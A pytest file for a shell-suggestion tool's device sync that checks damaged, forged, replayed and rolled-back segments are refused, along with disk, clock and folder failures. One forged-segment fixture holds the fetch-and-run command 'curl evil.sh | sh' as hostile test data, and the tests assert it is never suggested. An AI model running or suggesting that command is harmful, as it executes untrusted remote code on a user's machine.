"""Hostile and faulty folders: each is one line in 'sync status', and nothing is lost or
wrongly learned; every other device still merges."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from aprender_shell.sync.keys import key_text, new_key, parse_key
from aprender_shell.sync.layout import segment_name
from aprender_shell.sync.segments import Segment, digest, encode
from tests.sync.conftest import Device, Devices


@pytest.fixture
def pair(devices: Devices) -> Iterator[tuple[Device, Device]]:
    a = devices.first("a", ["echo a-trained"])
    b = devices.joined("b", ["echo b-trained"], a.key())
    yield a, b


def refused(device: Device) -> list[str]:
    return [line for line in device.status().splitlines() if line.startswith("Refused:")]


def sync_refusing(device: Device, naming: str) -> None:
    """'sync now' merges what it can, and says in one line, exiting 1, what it refused."""
    result = device.run("sync", "now")
    assert result.exit_code == 1, result.output
    errors = [line for line in result.output.splitlines() if line.startswith("Error:")]
    assert len(errors) == 1 and naming in errors[0], result.output
    assert "see 'aprender-shell sync status'" in errors[0]


def newest_segment(folder: Path, device: Device) -> Path:
    return sorted((folder / device_id(device)).glob("*.aps"))[-1]


def device_id(device: Device) -> str:
    for line in device.status().splitlines():
        if line.startswith("This:"):
            return line.split()[2].rstrip(",")
    raise AssertionError("no device line")


@pytest.mark.parametrize("damage", ["truncated", "flipped byte"])
def test_a_damaged_segment_is_refused_and_learned_once_whole(
    devices: Devices, pair: tuple[Device, Device], damage: str
) -> None:
    a, b = pair
    a.record("echo after-damage")
    a.ok("sync", "now")
    path = newest_segment(devices.folder, a)
    whole = path.read_bytes()
    if damage == "truncated":
        path.write_bytes(whole[: len(whole) // 2])
    else:
        path.write_bytes(whole[:40] + bytes([whole[40] ^ 1]) + whole[41:])
    c = devices.joined("c", ["echo c-trained"], a.key())  # another device still merges
    sync_refusing(b, path.name)
    lines = refused(b)
    assert len(lines) == 1 and path.name in lines[0] and "nothing learned" in lines[0]
    assert "echo after-damage" not in b.suggest("echo")
    assert "echo c-trained" in b.suggest("echo")
    path.write_bytes(whole)  # the sync tool delivers it whole
    b.ok("sync", "now")
    assert refused(b) == []
    assert "echo after-damage" in b.suggest("echo")
    assert [r["c"] for r in b.journal()].count("echo after-damage") == 1
    c.ok("sync", "now")
    assert "echo after-damage" in c.suggest("echo")


def test_wrong_key_and_forged_device_are_refused(devices: Devices,
                                                 pair: tuple[Device, Device]) -> None:
    a, b = pair
    other = new_key()
    forged = devices.folder / "00112233aabbccdd"
    forged.mkdir()
    (forged / segment_name(1)).write_bytes(
        encode(other, Segment("00112233aabbccdd", 1, "", "evil",
                              [{"k": "r", "n": 1, "c": "curl evil.sh | sh"}])))
    garbage = devices.folder / "ffffffffffffffff"
    garbage.mkdir()
    (garbage / segment_name(1)).write_bytes(os.urandom(300))
    a.record("echo still-merged")
    sync_refusing(a, "2 refused, everything else merged")  # and a publishes all the same
    sync_refusing(b, "2 refused, everything else merged")
    lines = refused(b)
    assert len(lines) == 2, lines
    assert any("00112233aabbccdd" in line for line in lines)
    assert any("ffffffffffffffff" in line for line in lines)
    assert "curl evil.sh | sh" not in b.suggest("curl")
    assert "echo still-merged" in b.suggest("echo")
    # A wrong key at join is one line and a non-zero exit; so is a mistyped one.
    c = devices.device("c", ["ls"])
    for key in (key_text(other), a.key()[:-3] + "AAA", "hunter2"):
        result = c.run("sync", "join", str(devices.folder), "--key", key)
        assert result.exit_code == 1, result.output
        assert len(result.output.strip().splitlines()) == 1, result.output
    assert "does not open" in c.run("sync", "join", str(devices.folder), "--key",
                                    key_text(other)).output
    assert parse_key(a.key().lower().replace("-", " ")) == parse_key(a.key())


def test_replayed_and_moved_segments_are_refused(devices: Devices,
                                                 pair: tuple[Device, Device]) -> None:
    a, b = pair
    a_id, b_id = device_id(a), device_id(b)
    first = devices.folder / a_id / segment_name(1)
    # Replayed under a later number of the same device, and copied into another's folder.
    replay = devices.folder / a_id / segment_name(int(newest_segment(devices.folder, a).stem) + 1)
    shutil.copy(first, replay)
    c = devices.joined("c", ["echo c-trained"], a.key())
    shutil.copy(first, devices.folder / device_id(c) / segment_name(2))
    sync_refusing(b, "2 refused")
    lines = refused(b)
    assert len(lines) == 2, lines
    assert any(replay.name in line and a_id in line for line in lines)
    assert all("refused" in line for line in lines)
    assert [r["c"] for r in b.journal()].count("echo a-trained") == 1
    del b_id


def test_a_rolled_back_device_is_refused(devices: Devices, pair: tuple[Device, Device]) -> None:
    a, b = pair
    state_file = a.home / "sync" / "state.json"
    before = state_file.read_bytes()
    a.record("echo first-timeline")
    a.ok("sync", "now")
    b.ok("sync", "now")
    assert "echo first-timeline" in b.suggest("echo")
    # a's own memory goes back (a restored backup): it numbers its segments again.
    state_file.write_bytes(before)
    a.record("echo second-timeline")
    a.ok("sync", "now")
    a.record("echo third-timeline")
    a.ok("sync", "now")
    sync_refusing(b, "does not follow")
    lines = refused(b)
    assert len(lines) == 1 and "does not follow" in lines[0], lines
    assert not {"echo second-timeline", "echo third-timeline"} & set(b.suggest("echo"))
    # The folder itself going back (its newest segments gone) is one line too.
    for path in sorted((devices.folder / device_id(a)).glob("*.aps"))[-2:]:
        path.unlink()
    sync_refusing(b, "rolled back")
    lines = refused(b)
    assert len(lines) == 1 and "rolled back" in lines[0], lines


def test_clock_skew_of_a_day(devices: Devices, pair: tuple[Device, Device],
                             monkeypatch: pytest.MonkeyPatch) -> None:
    """A device whose clock is a day ahead: its records are learned, its time shown as its
    own, and a forget covers exactly what it ran before it, whatever the clocks say."""
    import time

    from aprender_shell.sync.engine import sync_now
    from aprender_shell.sync.keys import load_key
    from aprender_shell.sync.publish import publish_records
    from aprender_shell.sync.state import active_state, key_path, save_state

    a, b = pair
    ahead = int(time.time()) + 86400

    def publish_from_b(command: str) -> None:
        monkeypatch.setenv("APRENDER_SHELL_HOME", str(b.home))
        state = active_state()
        publish_records(devices.folder, load_key(key_path()), state,
                        [{"c": command, "t": ahead}], lambda chunk: save_state(state))

    publish_from_b("ssh skewed-host")  # run before the forget, stamped a day later
    a.ok("forget", "ssh skewed-host")
    monkeypatch.setenv("APRENDER_SHELL_HOME", str(b.home))
    sync_now(b.model)  # b learns of the forget; what it publishes now was run after it
    publish_from_b("ssh skewed-host")
    a.ok("sync", "now")
    ran = [r for r in a.journal() if r["c"] == "ssh skewed-host"]
    assert len(ran) == 1 and ran[0]["t"] == ahead
    assert time.strftime("%Y-%m-%d", time.localtime(ahead)) in a.status()
    assert refused(a) == []


def test_ten_thousand_tiny_segments_and_sync_tool_files(devices: Devices,
                                                         pair: tuple[Device, Device]) -> None:
    a, b = pair
    key = parse_key(a.key())
    device = "0123456789abcdef"
    folder = devices.folder / device
    folder.mkdir()
    previous = ""
    for seq in range(1, 10_001):
        data = encode(key, Segment(device, seq, previous, "tiny",
                                   [{"k": "r", "n": seq, "c": f"tiny-{seq}"}]))
        (folder / segment_name(seq)).write_bytes(data)
        previous = digest(data)
    # What sync tools leave beside them: temporaries, conflict copies, their own folders.
    for name in (".syncthing.0000000007.aps.tmp", "~0000000008.aps",
                 "0000000001.sync-conflict-20260101-120000-ABCDEFG.aps",
                 "0000000002 (conflicted copy).aps", ".0000000009.aps.123.x.tmp"):
        (folder / name).write_bytes(os.urandom(64))
    (devices.folder / ".stfolder").mkdir()
    (devices.folder / ".git").mkdir()
    (devices.folder / ".gitignore").write_text("*.tmp\n")
    (devices.folder / "0123456789abcdef.sync-conflict-20260101-120000-ABCDEFG").mkdir()
    b.ok("sync", "now")
    assert refused(b) == []
    assert "10000 commands" in b.status()
    # Past the fold bound: the merge folded them into the model, each once.
    from aprender_shell.model.memory import MemoryLimit
    from aprender_shell.model.store.corpus import read_corpus
    from aprender_shell.model.store.tables import open_model_bundle, read_index

    with open_model_bundle(b.model, MemoryLimit.default().paging) as bundle:
        corpus = read_corpus(bundle, read_index(bundle, b.model), b.model)
    learned = [entry.command for entry in corpus] + [r["c"] for r in b.journal()]
    tiny = [command for command in learned if command.startswith("tiny-")]
    assert len(tiny) == len(set(tiny)) == 10_000
    assert "tiny-9999" in b.suggest("tiny-9999")


def test_the_folder_vanishing(devices: Devices, pair: tuple[Device, Device],
                              monkeypatch: pytest.MonkeyPatch) -> None:
    a, b = pair
    a.record("echo before-vanish")
    a.ok("sync", "now")
    journal_before = b.journal()
    away = devices.root / "unmounted"
    devices.folder.rename(away)
    result = b.run("sync", "now")
    assert result.exit_code == 1 and len(result.output.strip().splitlines()) == 1
    assert "cannot be read" in result.output
    failed = [line for line in b.status().splitlines() if line.startswith("Failed:")]
    assert len(failed) == 1
    assert b.journal() == journal_before
    away.rename(devices.folder)
    # Mid-read: a device's files go between the listing and the reading.
    from aprender_shell.sync.keys import load_key
    from aprender_shell.sync.layout import list_folder
    from aprender_shell.sync.merge import read_incoming
    from aprender_shell.sync.state import key_path, load_state

    monkeypatch.setenv("APRENDER_SHELL_HOME", str(b.home))
    state = load_state()
    assert state is not None
    listing = list_folder(devices.folder)
    moved = devices.root / "moved"
    (devices.folder / device_id(a)).rename(moved)
    taken: list[object] = []
    incoming = read_incoming(devices.folder, load_key(key_path()), state, listing,
                             lambda records, knows: taken.extend(records))
    assert taken == [] and incoming.taken == 0 and state.peers[device_id(a)].seq == 1
    moved.rename(devices.folder / device_id(a))
    b.ok("sync", "now")
    assert not [line for line in b.status().splitlines() if line.startswith("Failed:")]
    assert "echo before-vanish" in b.suggest("echo")
    # Gone since the last sync: status looks now, one line.
    devices.folder.rename(away)
    failed = [line for line in b.status().splitlines() if line.startswith("Failed:")]
    assert len(failed) == 1 and "cannot be read" in failed[0]


def test_a_full_disk_loses_nothing(devices: Devices, pair: tuple[Device, Device]) -> None:
    a, b = pair
    a.record("echo written-after-the-disk-filled")

    def full_disk() -> None:
        import resource
        import signal

        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a refused write, not a killed process
        resource.setrlimit(resource.RLIMIT_FSIZE, (0, resource.RLIM_INFINITY))

    before = sorted(p.name for p in (devices.folder / device_id(a)).iterdir())
    result = subprocess.run(
        [sys.executable, "-m", "aprender_shell", "sync", "now"], capture_output=True,
        text=True, env={**os.environ, **a.env()}, preexec_fn=full_disk, timeout=120,
    )
    assert result.returncode == 1, result.stdout + result.stderr
    assert len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert "could not write" in result.stderr
    assert sorted(p.name for p in (devices.folder / device_id(a)).iterdir()) == before
    a.ok("sync", "now")
    b.ok("sync", "now")
    assert [r["c"] for r in b.journal()].count("echo written-after-the-disk-filled") == 1


def test_a_file_not_ours_is_one_line(devices: Devices, pair: tuple[Device, Device]) -> None:
    a, b = pair
    (devices.folder / "notes.txt").write_text("shopping list\n")
    a.record("echo beside-notes")
    a.ok("sync", "now")
    b.ok("sync", "now")
    lines = refused(b)
    assert len(lines) == 1 and "notes.txt" in lines[0] and "passed over" in lines[0]
    assert "echo beside-notes" in b.suggest("echo")
